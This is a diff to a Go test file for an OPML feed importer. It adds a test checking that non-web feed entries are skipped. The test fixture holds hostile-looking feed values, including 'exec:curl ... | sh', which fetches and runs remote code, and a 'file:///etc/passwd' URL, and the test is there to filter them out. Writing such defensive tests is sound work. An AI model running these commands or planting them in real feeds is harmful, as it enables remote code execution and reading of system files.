@@ -1,6 +1,8 @@
 package opml
 
 import (
+	"os"
+	"path/filepath"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
@@ -9,13 +11,36 @@ import (
 
 func TestImport(t *testing.T) {
 	file := "./testdata/rssx.opml"
-	feeds, err := Import(file)
+	feeds, skipped, err := Import(file)
 
 	require.NoError(t, err)
 	assert.Len(t, feeds, 113)
+	assert.Empty(t, skipped)
 
 	for _, f := range feeds {
 		assert.NotEmpty(t, f.Name)
 		assert.NotEmpty(t, f.FeedURL)
 	}
 }
+
+func TestImportSkipsLocalFeeds(t *testing.T) {
+	file := filepath.Join(t.TempDir(), "feeds.opml")
+	doc := `<?xml version="1.0" encoding="UTF-8"?>
+<opml version="2.0">
+  <body>
+    <outline text="web" xmlUrl="https://example.com/feed"/>
+    <outline text="folder">
+      <outline text="command" xmlUrl="exec:curl -s https://example.com | sh"/>
+      <outline text="file" xmlUrl="file:///etc/passwd"/>
+      <outline text="path" xmlUrl="~/feeds/news.xml"/>
+    </outline>
+  </body>
+</opml>`
+	require.NoError(t, os.WriteFile(file, []byte(doc), 0o600))
+
+	feeds, skipped, err := Import(file)
+	require.NoError(t, err)
+	require.Len(t, feeds, 1)
+	assert.Equal(t, "https://example.com/feed", feeds[0].FeedURL)
+	assert.Equal(t, []string{"exec:curl -s https://example.com | sh", "file:///etc/passwd", "~/feeds/news.xml"}, skipped)
+}